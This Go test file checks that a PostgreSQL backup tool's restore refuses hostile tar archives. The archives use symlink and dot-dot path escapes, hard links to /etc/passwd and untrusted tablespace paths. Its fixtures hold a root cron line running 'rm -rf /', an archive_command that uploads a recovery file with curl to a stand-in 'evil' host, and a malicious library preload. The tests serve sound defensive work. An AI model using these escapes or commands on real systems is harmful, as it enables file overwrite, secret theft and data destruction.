package physical_test

import (
	"archive/tar"
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/drctl/drctl/catalog"
	"github.com/drctl/drctl/engine/codec"
	"github.com/drctl/drctl/engine/pipeline"
	"github.com/drctl/drctl/restore/physical"
	"github.com/drctl/drctl/storage/filestore"
	"github.com/drctl/drctl/testrig"
)

// entry is one member of a crafted tar.
type entry struct {
	name, link string
	typ        byte
	body       string
}

// hostileRepo writes base backups the way an attacker with write access to
// the bucket can: valid age ciphertext for the public recipient, SHA-256
// and sizes matching the manifest. Nothing but the tar's content is wrong.
type hostileRepo struct {
	st   *filestore.Store
	keys *codec.Keys
}

func newHostileRepo(t *testing.T) *hostileRepo {
	st, err := filestore.Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	return &hostileRepo{st: st, keys: testrig.NewKeys(t, t.TempDir()).Codec()}
}

func tarOf(t *testing.T, entries []entry) []byte {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, e := range entries {
		typ := e.typ
		if typ == 0 {
			typ = tar.TypeReg
		}
		hdr := &tar.Header{Name: e.name, Linkname: e.link, Typeflag: typ, Mode: 0o600, Size: int64(len(e.body)), ModTime: time.Now(), Format: tar.FormatPAX}
		if typ != tar.TypeReg {
			hdr.Size = 0
		}
		if err := tw.WriteHeader(hdr); err != nil {
			t.Fatal(err)
		}
		if typ == tar.TypeReg {
			tw.Write([]byte(e.body))
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// tablespace is a crafted tablespace tar with the OID and path the
// manifest claims for it.
type tablespace struct {
	oid, path string
	entries   []entry
}

func (h *hostileRepo) backup(t *testing.T, base []entry, tablespaces ...tablespace) *catalog.Manifest {
	t.Helper()
	id := catalog.NewID(time.Now())
	m := &catalog.Manifest{FormatVersion: 1, ID: id, Kind: catalog.KindPhysical, Database: "postgres",
		StartTime: time.Now(), EndTime: time.Now(), Compression: "zstd", Encryption: h.keys.Encryption(),
		Physical: &catalog.Physical{StartLSN: "0/2000028", StopLSN: "0/2000100", StartTimeline: 1, StopTimeline: 1,
			StartSegment: "000000010000000000000002", StopSegment: "000000010000000000000002", WALSegmentSize: 16 << 20}}
	put := func(name string, body []byte) catalog.Object {
		up, err := pipeline.Start(t.Context(), h.st, catalog.ObjectKey(id, name), h.keys, codec.Options{})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := up.Write(body); err != nil {
			t.Fatal(err)
		}
		o, err := up.Finish(t.Context(), catalog.RoleTar)
		if err != nil {
			t.Fatal(err)
		}
		return o
	}
	m.Objects = append(m.Objects, put("base.tar.zst.age", tarOf(t, base)))
	for _, ts := range tablespaces {
		o := put(ts.oid+".tar.zst.age", tarOf(t, ts.entries))
		o.TablespaceOID, o.TablespacePath = ts.oid, ts.path
		m.Objects = append(m.Objects, o)
	}
	if err := catalog.Commit(t.Context(), h.st, m, nil); err != nil {
		t.Fatal(err)
	}
	return m
}

// sandbox is a directory holding the restore target and, beside it, an
// "outside" directory with a file that must never change.
type sandbox struct{ root, target, outside string }

func newSandbox(t *testing.T) sandbox {
	root := t.TempDir()
	s := sandbox{root: root, target: filepath.Join(root, "data"), outside: filepath.Join(root, "outside")}
	if err := os.Mkdir(s.outside, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(s.outside, "precious"), []byte("keep me"), 0o644); err != nil {
		t.Fatal(err)
	}
	return s
}

// untouched asserts nothing was written outside the target directory.
func (s sandbox) untouched(t *testing.T) {
	t.Helper()
	var names []string
	filepath.WalkDir(s.root, func(p string, d os.DirEntry, err error) error {
		if err != nil {
			t.Error(err)
			return nil
		}
		rel, _ := filepath.Rel(s.root, p)
		if rel == "data" || strings.HasPrefix(rel, "data/") {
			return nil
		}
		names = append(names, rel)
		return nil
	})
	if want := []string{".", "outside", "outside/precious"}; !slices.Equal(names, want) {
		t.Errorf("the restore wrote outside its target: %q, want %q", names, want)
	}
	if b, err := os.ReadFile(filepath.Join(s.outside, "precious")); err != nil || string(b) != "keep me" {
		t.Errorf("outside/precious changed: %q %v", b, err)
	}
}

func TestHostileBaseBackupsAreRefused(t *testing.T) {
	passwd, _ := os.ReadFile("/etc/passwd")
	absTarget := filepath.Join(t.TempDir(), "absolute-victim")
	cases := []struct {
		name    string
		entries func(s sandbox) []entry
		want    string // in the error
	}{
		{"symlink out then a file through it", func(s sandbox) []entry {
			return []entry{{name: "global/", typ: tar.TypeDir}, {name: "evil", typ: tar.TypeSymlink, link: s.outside}, {name: "evil/pwned", body: "x"}}
		}, `"evil"`},
		{"relative symlink climbing out", func(s sandbox) []entry {
			return []entry{{name: "sub/", typ: tar.TypeDir}, {name: "sub/evil", typ: tar.TypeSymlink, link: "../../outside"}, {name: "sub/evil/pwned", body: "x"}}
		}, `"sub/evil"`},
		{"symlink inside, then one out through it", func(s sandbox) []entry {
			return []entry{{name: "here", typ: tar.TypeSymlink, link: "."}, {name: "here/evil", typ: tar.TypeSymlink, link: "../outside"}}
		}, `"here/evil"`},
		{"a chain of symlinks each inside on paper", func(s sandbox) []entry {
			return []entry{{name: "a/", typ: tar.TypeDir}, {name: "a/l", typ: tar.TypeSymlink, link: ".."}, {name: "b", typ: tar.TypeSymlink, link: "a/l/../outside"}}
		}, `"b"`},
		{"a chain two deep", func(s sandbox) []entry {
			return []entry{{name: "a/b/", typ: tar.TypeDir}, {name: "a/b/up", typ: tar.TypeSymlink, link: "../.."}, {name: "esc", typ: tar.TypeSymlink, link: "a/b/up/.."}}
		}, `"esc"`},
		{"a link written before the link it leads through", func(s sandbox) []entry {
			return []entry{{name: "x", typ: tar.TypeSymlink, link: "y/z/../../.."}, {name: "y/", typ: tar.TypeDir}, {name: "y/z", typ: tar.TypeSymlink, link: "."}}
		}, `"x"`},
		{"hard link to /etc/passwd", func(s sandbox) []entry {
			return []entry{{name: "passwd", typ: tar.TypeLink, link: "/etc/passwd"}}
		}, "hard link"},
		{"hard link to a file outside", func(s sandbox) []entry {
			return []entry{{name: "precious", typ: tar.TypeLink, link: "../outside/precious"}}
		}, "hard link"},
		{"absolute path", func(s sandbox) []entry {
			return []entry{{name: absTarget, body: "x"}}
		}, "absolute"},
		{"dot-dot path", func(s sandbox) []entry {
			return []entry{{name: "global/../../outside/pwned", body: "x"}}
		}, `".."`},
		{"device file", func(s sandbox) []entry {
			return []entry{{name: "dev", typ: tar.TypeChar}}
		}, "device"},
		{"tablespace_map naming a tablespace the manifest does not list", func(s sandbox) []entry {
			return []entry{{name: "PG_VERSION", body: "15\n"}, {name: "tablespace_map", body: "16999 " + s.outside + "\n"}}
		}, "tablespace_map"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			h := newHostileRepo(t)
			s := newSandbox(t)
			m := h.backup(t, c.entries(s))
			_, err := physical.Restore(t.Context(), physical.Options{Store: h.st, Manifest: m, Keys: h.keys, Dir: s.target, RestoreCommand: "false"})
			if err == nil || !strings.Contains(err.Error(), c.want) {
				t.Fatalf("want an error naming %s, got %v", c.want, err)
			}
			if isEntry := c.want != "tablespace_map"; isEntry != errors.Is(err, physical.ErrUnsafeEntry) {
				t.Errorf("errors.Is(err, ErrUnsafeEntry) = %v for %v", !isEntry, err)
			}
			s.untouched(t)
			if left, _ := os.ReadDir(s.target); len(left) != 0 {
				t.Errorf("the refused restore left %d entries in its target", len(left))
			}
			if _, err := os.Lstat(absTarget); err == nil {
				t.Errorf("%s was created", absTarget)
			}
			if now, _ := os.ReadFile("/etc/passwd"); !bytes.Equal(now, passwd) {
				t.Errorf("/etc/passwd changed")
			}
		})
	}
}

// A tablespace's path comes from the manifest: restoring it there needs
// the user's word, and /etc is never written.
func TestTablespacePathFromTheRepositoryIsNotTrusted(t *testing.T) {
	h := newHostileRepo(t)
	s := newSandbox(t)
	base := []entry{{name: "PG_VERSION", body: "15\n"}, {name: "tablespace_map", body: "16400 /etc\n"}}
	ts := tablespace{oid: "16400", path: "/etc", entries: []entry{{name: "PG_15_202209061/", typ: tar.TypeDir}, {name: "cron.d/evil", body: "* * * * * root rm -rf /\n"}}}
	m := h.backup(t, base, ts)
	_, err := physical.Restore(t.Context(), physical.Options{Store: h.st, Manifest: m, Keys: h.keys, Dir: s.target, RestoreCommand: "false"})
	if err == nil || !strings.Contains(err.Error(), "--tablespace-map 16400=") {
		t.Fatalf("want a refusal naming the mapping to give, got %v", err)
	}
	s.untouched(t)
	if _, err := os.Stat("/etc/cron.d/evil"); err == nil {
		t.Fatal("/etc/cron.d/evil was written")
	}
	// --tablespace-original with /etc: refused, /etc is not empty.
	_, err = physical.Restore(t.Context(), physical.Options{Store: h.st, Manifest: m, Keys: h.keys, Dir: filepath.Join(s.root, "data2"), RestoreCommand: "false", TablespaceOriginal: true})
	if err == nil || !strings.Contains(err.Error(), "/etc is not empty") {
		t.Fatalf("want /etc refused as not empty, got %v", err)
	}
	// A mapped tablespace restores to the place the user chose, and
	// tablespace_map points there.
	mapped := filepath.Join(s.root, "ts")
	res, err := physical.Restore(t.Context(), physical.Options{Store: h.st, Manifest: m, Keys: h.keys, Dir: filepath.Join(s.root, "data3"), RestoreCommand: "false", TablespaceMap: map[string]string{"16400": mapped}})
	if err != nil {
		t.Fatal(err)
	}
	if res.Tablespaces["16400"] != mapped {
		t.Fatalf("tablespace restored to %q", res.Tablespaces["16400"])
	}
	if b, _ := os.ReadFile(filepath.Join(mapped, "cron.d", "evil")); len(b) == 0 {
		t.Fatal("the mapped tablespace's file is missing")
	}
	if b, _ := os.ReadFile(filepath.Join(s.root, "data3", "tablespace_map")); string(b) != "16400 "+mapped+"\n" {
		t.Fatalf("tablespace_map = %q", b)
	}
	// A link through the tablespace's link-to-be leads out once recovery
	// has made pg_tblspc/16400: refused.
	m2 := h.backup(t, append(base, entry{name: "x", typ: tar.TypeSymlink, link: "pg_tblspc/16400/.."}), ts)
	_, err = physical.Restore(t.Context(), physical.Options{Store: h.st, Manifest: m2, Keys: h.keys, Dir: filepath.Join(s.root, "data5"), RestoreCommand: "false", TablespaceMap: map[string]string{"16400": filepath.Join(s.root, "ts5")}})
	if err == nil || !strings.Contains(err.Error(), "pg_tblspc/16400") {
		t.Fatalf("a link through pg_tblspc/16400: %v", err)
	}
	// A mapping of a tablespace the backup lacks is a user's mistake.
	_, err = physical.Restore(t.Context(), physical.Options{Store: h.st, Manifest: m, Keys: h.keys, Dir: filepath.Join(s.root, "data4"), RestoreCommand: "false", TablespaceMap: map[string]string{"16400": filepath.Join(s.root, "ts4"), "99": "/x"}})
	if err == nil || !strings.Contains(err.Error(), "--tablespace-map 99") {
		t.Fatalf("want the unknown mapping named, got %v", err)
	}
}

// What a real base backup holds restores: directories, files and a
// symlink that stays inside; the recovery settings are written as files,
// replacing (not writing through) what the backup had under their names.
func TestBenignTarRestores(t *testing.T) {
	h := newHostileRepo(t)
	s := newSandbox(t)
	m := h.backup(t, []entry{
		{name: "PG_VERSION", body: "15\n"}, {name: "base/", typ: tar.TypeDir}, {name: "base/1/1259", body: "relation"},
		{name: "conf.d", typ: tar.TypeSymlink, link: "base/1"},
		{name: "postgresql.auto.conf", typ: tar.TypeSymlink, link: "base/1/1259"},
	})
	res, err := physical.Restore(t.Context(), physical.Options{Store: h.st, Manifest: m, Keys: h.keys, Dir: s.target, RestoreCommand: "drctl wal-fetch %f %p"})
	if err != nil {
		t.Fatal(err)
	}
	s.untouched(t)
	if res.Files != 2 {
		t.Fatalf("files = %d", res.Files)
	}
	if l, err := os.Readlink(filepath.Join(s.target, "conf.d")); err != nil || l != "base/1" {
		t.Fatalf("conf.d -> %q %v", l, err)
	}
	if b, _ := os.ReadFile(filepath.Join(s.target, "base/1/1259")); string(b) != "relation" {
		t.Fatalf("the symlink's target was written through: %q", b)
	}
	auto, err := os.Lstat(filepath.Join(s.target, "postgresql.auto.conf"))
	if err != nil || !auto.Mode().IsRegular() {
		t.Fatalf("postgresql.auto.conf: %v %v", auto, err)
	}
	if b, _ := os.ReadFile(filepath.Join(s.target, "postgresql.auto.conf")); !strings.Contains(string(b), "restore_command = 'drctl wal-fetch %f %p'") {
		t.Fatalf("postgresql.auto.conf = %q", b)
	}
}

// A backup's configuration cannot run commands or load code in the
// restored server: those settings are reset, and the reset is reported.
func TestBackupConfigurationIsDefused(t *testing.T) {
	h := newHostileRepo(t)
	s := newSandbox(t)
	m := h.backup(t, []entry{
		{name: "PG_VERSION", body: "15\n"},
		{name: "postgresql.conf", body: "shared_preload_libraries = 'pg_stat_statements'  # fine\nport = 5432\n" +
			"data_directory = '/var/lib/postgresql/15/other'\ninclude_dir 'conf.d'\nlog_directory = '/var/lib/postgresql/.ssh'\n"},
		{name: "postgresql.auto.conf", body: "archive_mode = 'on'\narchive_command = 'curl -T ../main.drctl-recovery.yaml https://evil'\n" +
			"recovery_end_command = 'sh -c evil'\nrecovery_target = 'immediate'\nsession_preload_libraries = './evil.so'\n"},
	})
	res, err := physical.Restore(t.Context(), physical.Options{Store: h.st, Manifest: m, Keys: h.keys, Dir: s.target, RestoreCommand: "drctl wal-fetch %f %p"})
	if err != nil {
		t.Fatal(err)
	}
	warnings := strings.Join(res.Warnings, "\n")
	for _, w := range []string{"archive_command", "recovery_end_command", "recovery_target", "session_preload_libraries", "data_directory", "include_dir", "log_directory"} {
		if !strings.Contains(warnings, w) {
			t.Errorf("no warning about %s: %s", w, warnings)
		}
	}
	auto, _ := os.ReadFile(filepath.Join(s.target, "postgresql.auto.conf"))
	// PostgreSQL takes the last setting of a name: check what wins.
	last := map[string]string{}
	for _, line := range strings.Split(string(auto), "\n") {
		if k, v, ok := strings.Cut(line, " = "); ok {
			last[k] = v
		}
	}
	for k, want := range map[string]string{"archive_mode": "'off'", "archive_command": "''", "recovery_end_command": "''",
		"recovery_target": "''", "session_preload_libraries": "''", "shared_preload_libraries": "'pg_stat_statements'",
		"dynamic_library_path": "'$libdir'", "restore_command": "'drctl wal-fetch %f %p'", "log_directory": "'log'"} {
		if last[k] != want {
			t.Errorf("%s = %s in the restored postgresql.auto.conf, want %s", k, last[k], want)
		}
	}
	// What postgresql.auto.conf cannot override is disabled where it stands.
	conf, _ := os.ReadFile(filepath.Join(s.target, "postgresql.conf"))
	for _, line := range strings.Split(string(conf), "\n") {
		if strings.HasPrefix(line, "data_directory") || strings.HasPrefix(line, "include_dir") {
			t.Errorf("postgresql.conf still has %q", line)
		}
	}
}

// --tablespace-original, run as root, writes only into a directory that
// already exists, empty and owned by the server's user: a backup cannot
// make root create or take over a system directory.
func TestTablespaceOriginalNeedsTheServersDirectory(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("the rule applies to restores run as root")
	}
	h := newHostileRepo(t)
	s := newSandbox(t)
	missing := filepath.Join(s.root, "not-there", "ts")
	rootOwned := filepath.Join(s.root, "root-owned")
	os.Mkdir(rootOwned, 0o755)
	for _, path := range []string{missing, rootOwned} {
		m := h.backup(t, []entry{{name: "PG_VERSION", body: "15\n"}}, tablespace{oid: "16400", path: path, entries: []entry{{name: "f", body: "x"}}})
		_, err := physical.Restore(t.Context(), physical.Options{Store: h.st, Manifest: m, Keys: h.keys, Dir: filepath.Join(s.root, "data-"+filepath.Base(path)),
			RestoreCommand: "false", TablespaceOriginal: true, Owner: &physical.Owner{UID: 65534, GID: 65534}})
		if err == nil || !strings.Contains(err.Error(), "named by the backup") {
			t.Fatalf("tablespace at %s: %v", path, err)
		}
	}
	if _, err := os.Stat(missing); err == nil {
		t.Fatal("a directory the backup named was created")
	}
	if entries, _ := os.ReadDir(rootOwned); len(entries) != 0 {
		t.Fatal("a root-owned directory the backup named was written")
	}
}

// --skip-external-symlinks restores a backup whose data directory links
// out (pg_log to /var/log, say) without the link, saying so.
func TestSkipExternalSymlinks(t *testing.T) {
	h := newHostileRepo(t)
	s := newSandbox(t)
	m := h.backup(t, []entry{{name: "PG_VERSION", body: "15\n"}, {name: "pg_log", typ: tar.TypeSymlink, link: s.outside},
		{name: "x", typ: tar.TypeSymlink, link: "y/../.."}, {name: "y", typ: tar.TypeSymlink, link: "."}, {name: "ok", typ: tar.TypeSymlink, link: "PG_VERSION"}})
	res, err := physical.Restore(t.Context(), physical.Options{Store: h.st, Manifest: m, Keys: h.keys, Dir: s.target, RestoreCommand: "false", SkipExternalSymlinks: true})
	if err != nil {
		t.Fatal(err)
	}
	s.untouched(t)
	for _, gone := range []string{"pg_log", "x"} {
		if _, err := os.Lstat(filepath.Join(s.target, gone)); err == nil {
			t.Errorf("%s was restored", gone)
		}
	}
	if _, err := os.Lstat(filepath.Join(s.target, "ok")); err != nil {
		t.Errorf("an inside symlink was left out: %v", err)
	}
	if w := strings.Join(res.Warnings, "\n"); !strings.Contains(w, "pg_log") || !strings.Contains(w, "symlink x") {
		t.Fatalf("warnings: %s", w)
	}
}
